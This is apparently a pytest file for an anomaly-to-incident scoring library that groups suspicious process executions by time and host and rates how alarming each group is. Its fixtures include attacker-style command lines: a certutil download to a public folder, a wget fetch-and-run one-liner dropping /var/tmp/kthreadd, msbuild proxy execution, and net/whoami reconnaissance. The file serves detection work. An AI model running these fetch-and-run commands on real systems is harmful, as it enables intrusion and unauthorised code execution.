"""Anomalies into incidents: what belongs together in time, and how alarming it is together."""

from collections.abc import Sequence
from datetime import timedelta
from typing import Any

import polars as pl
import pytest
from prevalence_tables import NOTHING_LIKE_IT, START, anomaly

from longtail.prevalence.acts import Row, acts, things_told, told_earlier
from longtail.prevalence.incidents import anomalous, grouped, score, scored
from longtail.prevalence.likeness import Likeness

WHOAMI = r"\windows\system32\whoami.exe"
NET = r"\windows\system32\net.exe"
SVN = r"\users\public\svn.exe"
FIVE = [rf"\windows\system32\{name}.exe" for name in ("whoami", "net", "ftp", "ntsd", "bitsadmin")]


def at(hours: float) -> dict[str, Any]:
    return {"onset": START + timedelta(hours=hours)}


def stories(rows: Sequence[Row], quiet_hours: float = 24.0) -> list[list[str]]:
    """The hosts and executables of each incident that rows fall into."""
    found = grouped(pl.DataFrame(rows, infer_schema_length=None), quiet_hours)
    return [each["name"].to_list() for each in found.partition_by("incident", maintain_order=True)]


def worth(*story: Row, likenesses: dict[int, Likeness] | None = None) -> float:
    return score(story, {row["behaviour"]: NOTHING_LIKE_IT for row in story} | (likenesses or {}))


def trait(what: str, bits: float = 4.0) -> dict[str, Any]:
    return {"traits": [{"what": what, "bits": bits}]}


def test_a_quiet_spell_ends_a_story() -> None:
    rows = [anomaly(WHOAMI, **at(0)), anomaly(NET, **at(20)), anomaly(SVN, **at(60))]
    assert stories(rows) == [["whoami.exe", "net.exe"], ["svn.exe"]]
    assert stories(rows, quiet_hours=12) == [["whoami.exe"], ["net.exe"], ["svn.exe"]]
    assert stories(rows, quiet_hours=48) == [["whoami.exe", "net.exe", "svn.exe"]]


def test_one_command_a_day_for_a_week_is_one_story() -> None:
    assert len(stories([anomaly(WHOAMI, **at(24 * day)) for day in range(7)])) == 1


@pytest.mark.parametrize("actor", [{"host": "db01"}, {"account": "CORP\\svc"}, {"tenant": "fabrikam"}])
def test_another_host_account_or_tenant_is_another_story(actor: dict[str, str]) -> None:
    assert len(stories([anomaly(WHOAMI), anomaly(NET, **actor)])) == 2


def test_the_order_of_the_rows_makes_no_difference() -> None:
    rows = [anomaly(name, **at(hours)) for name, hours in zip(FIVE, (0, 1, 30, 31, 80), strict=True)]
    assert stories(rows[::-1]) == stories(rows)


def test_incidents_come_worst_first_with_their_span() -> None:
    rows = [anomaly(WHOAMI, host="db01", bits=7.0), *(anomaly(name, **at(0.1 * n)) for n, name in enumerate(FIVE))]
    found = scored(
        grouped(pl.DataFrame(rows, infer_schema_length=None), 24.0), {row["behaviour"]: NOTHING_LIKE_IT for row in rows}
    )
    assert found["host"].to_list() == ["db00", "db01"]
    assert found["anomalies"].to_list() == [5, 1]
    assert found["end"][0] - found["start"][0] == timedelta(hours=0.4)


def test_a_burst_is_worse_than_the_same_things_over_a_day_and_far_worse_than_each_alone() -> None:
    burst = worth(*(anomaly(name, **at(0.01 * n)) for n, name in enumerate(FIVE)))
    drawn_out = worth(*(anomaly(name, **at(5 * n)) for n, name in enumerate(FIVE)))
    alone = worth(anomaly(WHOAMI))
    assert burst > drawn_out > alone
    assert burst > 3 * alone


def test_more_surprise_is_never_less_alarming() -> None:
    rising = [worth(anomaly(WHOAMI, bits=bits), anomaly(NET)) for bits in (6.0, 7.0, 9.0, 14.0, 20.0)]
    assert rising == sorted(rising)


def test_one_more_anomaly_at_the_same_moment_is_never_less_alarming() -> None:
    rising = [worth(*(anomaly(name) for name in FIVE[:number])) for number in range(1, 6)]
    assert rising == sorted(rising)


def test_many_weak_surprises_do_not_make_a_strong_one() -> None:
    weak = [anomaly(WHOAMI, f"whoami.exe /{letter}", bits=6.0) for letter in "abcdefghijklmnopqrstuvwxyz"]
    assert worth(*weak) < 26 * 6.0


@pytest.mark.parametrize(
    "worse",
    [
        trait("downloads a program"),
        trait("names an address, not a host"),
        {"zone": "public", "executable": SVN, "name": "svn.exe"},
        {"hosted_by": "notahost.exe"},
    ],
)
def test_what_it_means_and_where_it_lies_make_it_worse(worse: dict[str, Any]) -> None:
    assert worth(anomaly(WHOAMI, **worse)) > worth(anomaly(WHOAMI))


def test_a_known_host_is_no_disguise() -> None:
    assert worth(anomaly(WHOAMI, hosted_by="cmd.exe")) == worth(anomaly(WHOAMI))


def test_a_script_in_a_writable_place_is_no_unknown_program() -> None:
    carried = {"executable": r"\users\public\a.ps1", "name": "a.ps1", "hosted_by": "powershell.exe"}
    assert worth(anomaly(WHOAMI, **carried, zone="public")) == worth(anomaly(WHOAMI, **carried))


def test_what_runs_by_itself_in_a_writable_place_is_a_program_whatever_it_is_called() -> None:
    dropped = {"executable": "/var/tmp/kthreadd", "name": "kthreadd"}
    assert worth(anomaly(WHOAMI, **dropped, zone="unix-temp")) > worth(anomaly(WHOAMI, **dropped))


def test_rarities_of_other_days_do_not_make_a_burst_less_alarming() -> None:
    burst = [anomaly(name, **at(30 + 0.01 * n)) for n, name in enumerate(FIVE)]
    before, after = anomaly(SVN, bits=6.0, **at(0)), anomaly(SVN, bits=6.0, **at(55))
    assert worth(before, *burst, after) >= worth(*burst)


def test_the_most_alarming_stretch_may_have_pauses_in_it() -> None:
    hour, days = ([anomaly(name, **at(apart * n)) for n, name in enumerate(FIVE)] for apart in (1.1, 11.0))
    assert worth(*hour) > worth(*days) >= max(worth(row) for row in days)


def test_passing_for_a_common_program_is_worse_than_being_near_to_it() -> None:
    row = anomaly(WHOAMI)
    near, passing = Likeness(NET, None), Likeness(NET, "its name passes for net.exe")
    assert worth(row, likenesses={row["behaviour"]: passing}) > worth(row, likenesses={row["behaviour"]: near}) + 5


def test_a_trait_counts_once_however_often_it_shows() -> None:
    once = worth(anomaly(WHOAMI, **trait("names an address, not a host")), anomaly(NET))
    twice = worth(
        anomaly(WHOAMI, **trait("names an address, not a host")), anomaly(NET, **trait("names an address, not a host"))
    )
    assert once == twice


def test_what_one_command_line_carries_is_one_act() -> None:
    line = "cmd.exe /c net user & whoami"
    together = [anomaly(NET, line, hosted_by="cmd.exe"), anomaly(WHOAMI, line, hosted_by="cmd.exe")]
    assert len(acts(together)) == 1
    assert len(acts([anomaly(NET, "net user"), anomaly(WHOAMI, "whoami")])) == 2


def test_every_run_of_one_program_is_one_act() -> None:
    assert [len(act) for act in acts([anomaly(NET, "net user"), anomaly(NET, "net view"), anomaly(NET)])] == [3]


def test_no_anomaly_is_lost_or_doubled_between_acts() -> None:
    story = [anomaly(name, line) for name in FIVE for line in (None, "cmd /c a", f"{name} b")]
    numbers = [row["behaviour"] for act in acts(story) for row in act]
    assert sorted(numbers) == [row["behaviour"] for row in story]


def test_a_program_and_the_same_carried_by_a_shell_are_told_one_thing() -> None:
    carried = anomaly(NET, "cmd /c net user", shape="net user", hosted_by="cmd.exe")
    assert things_told([carried, anomaly(NET, "net user", shape="net.exe user")]) == 1


def test_things_told_counts_different_commands_of_one_program() -> None:
    lines = ("net.exe user", "net.exe view", "net.exe group", "net.exe user")
    assert things_told([anomaly(NET, line) for line in lines]) == 3
    assert things_told([anomaly(NET, shape=None)]) == 1


DROPPED = {"zone": "public"}


def test_running_what_an_earlier_command_fetched_is_noticed() -> None:
    fetch = anomaly(
        r"\windows\system32\certutil.exe", r"certutil -urlcache -f http://1.2.3.4/Svn.exe c:\users\public\Svn.exe"
    )
    run = anomaly(SVN, r"c:\users\public\svn.exe -quiet", **DROPPED)
    assert told_earlier([fetch, run, run]) == [None, 0, 0]
    assert told_earlier([run, fetch]) == [None, None]
    assert worth(fetch, run) > worth(run, fetch)


def test_one_shell_line_that_fetches_and_runs_is_noticed_by_its_own_starts() -> None:
    line = "sh -c wget -q a.example/x -O /var/tmp/kthreadd; /var/tmp/kthreadd"
    program = {"executable": "/var/tmp/kthreadd", "name": "kthreadd", "zone": "unix-temp"}
    carried = [anomaly("/usr/bin/wget", line, hosted_by="sh"), anomaly("", line, hosted_by="sh", **program)]
    assert told_earlier(carried) == [None, None]
    fetched = anomaly("/usr/bin/wget", "wget -q a.example/x -O /var/tmp/kthreadd")
    assert told_earlier([*carried, fetched, anomaly("", "/var/tmp/kthreadd", **program)]) == [None, None, None, 2]


@pytest.mark.parametrize(
    "story",
    [
        [anomaly(NET, "net.exe user"), anomaly(WHOAMI, "whoami.exe")],
        [anomaly(NET, "net user whoami.exe"), anomaly(WHOAMI, "whoami.exe")],  # a program of the system was not written
        [anomaly(SVN, "svn.exe a", **DROPPED), anomaly(SVN, "svn.exe b", **DROPPED)],  # its own name tells nothing
        [anomaly(NET, "copy a.b", **DROPPED), anomaly(r"\users\public\a.b", "a.b x", **DROPPED)],  # too short a name
        [anomaly(NET, None), anomaly(SVN, None, **DROPPED)],
    ],
)
def test_what_was_there_before_was_not_written(story: list[Row]) -> None:
    assert not any(each is not None for each in told_earlier(story))


def weighed(*each: float, account_class: str = "mssql", minutes: float = 5.0, shown: int = 0) -> pl.DataFrame:
    """Behaviours of so many bits each, so many minutes apart; ``shown`` of 8 other hosts show the program too."""
    rows = [
        anomaly(rf"\windows\system32\tool{n}.exe", bits=bits, account_class=account_class, **at(n * minutes / 60))
        | {"executable_hosts": shown, "executable_of_hosts": 8, "executable_elsewhere": 0}
        for n, bits in enumerate(each)
    ]
    return pl.DataFrame(rows, infer_schema_length=None)


def test_enough_that_is_nearly_rare_is_an_anomaly_together() -> None:
    assert anomalous(weighed(5.5, 5.5, 5.5, 5.5), 6.0).height == 4
    assert anomalous(weighed(5.5, 5.5), 6.0).is_empty()
    assert anomalous(weighed(7.0, 5.5, 1.0), 6.0)["bits"].to_list() == [7.0]


@pytest.mark.parametrize(
    "apart",
    [
        {"minutes": 70.0},  # too long a pause between them
        {"account_class": "human"},  # people do many things at once
        {"account_class": "system"},
        {"shown": 3},  # a patch night, of which not every host is through
    ],
)
def test_what_others_do_too_or_what_is_far_apart_is_not_together(apart: dict[str, Any]) -> None:
    assert anomalous(weighed(5.5, 5.5, 5.5, 5.5, **apart), 6.0).is_empty()


def test_code_that_a_program_of_the_system_runs_from_where_anybody_writes_is_an_unknown_program() -> None:
    project = {"executable": r"\windows\tasks\a.xml", "name": "a.xml", "zone": "system-writable"}
    proxied = anomaly(WHOAMI, r"cmd /c msbuild C:\Windows\Tasks\a.xml", **project, hosted_by="msbuild.exe")
    shown = anomaly(WHOAMI, r"cmd /c type C:\Windows\Tasks\a.xml", **project, hosted_by="cmd.exe")
    assert worth(proxied) >= worth(shown) + 6
